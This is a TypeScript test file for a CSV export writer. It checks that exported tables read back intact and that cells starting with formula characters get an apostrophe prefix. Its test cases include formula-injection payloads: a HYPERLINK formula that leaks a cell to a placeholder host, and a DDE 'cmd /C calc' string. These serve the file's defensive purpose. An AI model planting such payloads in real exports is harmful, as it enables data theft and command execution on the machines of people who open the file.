import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cellOf, csvOf } from '../../../../server/privacy/exports/csv.ts';

/** Reads RFC 4180 as a spreadsheet does. */
function read(text: string): string[][] {
  return [...text.matchAll(/((?:"(?:[^"]|"")*",?)+)\r\n/g)].map(([, row = '']) =>
    [...row.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"')),
  );
}

describe('a table as CSV', () => {
  test('is read again as it was, for whatever is no formula', () => {
    const cell = fc.string({ unit: 'binary' }).filter((text) => cellOf(text) === `"${text.replaceAll('"', '""')}"`);
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell)), (rows) => {
        expect(read(csvOf({ title: '', columns: ['a', 'b'], rows }))).toEqual([['a', 'b'], ...rows]);
      }),
    );
  });
  test.each([
    '=1+1',
    '=HYPERLINK("http://x.example?"&A1,"look")',
    '+1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\u0000=1',
    '\uff1d1+1',
    '\n=1',
  ])('starts %j with an apostrophe, so that it stays text', (text) => {
    expect(read(`${cellOf(text)}\r\n`)[0]?.[0]).toBe(`'${text}`);
  });
  test('keeps quotes, separators and lines inside their cell', () => {
    expect(csvOf({ title: '', columns: ['x'], rows: [['a";=1,"\r\nb']] })).toBe('"x"\r\n"a"";=1,""\r\nb"\r\n');
  });
});
